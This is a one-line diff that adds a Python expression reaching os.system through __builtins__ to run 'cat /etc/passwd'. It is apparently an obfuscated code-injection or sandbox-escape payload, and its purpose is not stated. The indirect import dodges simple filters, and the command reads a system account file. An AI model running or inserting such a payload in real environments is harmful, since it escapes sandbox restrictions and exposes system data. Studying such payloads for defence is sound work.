@@ -1,0 +1,1 @@
+__builtins__.__dict__["__import__"]("os").system("cat /etc/passwd")
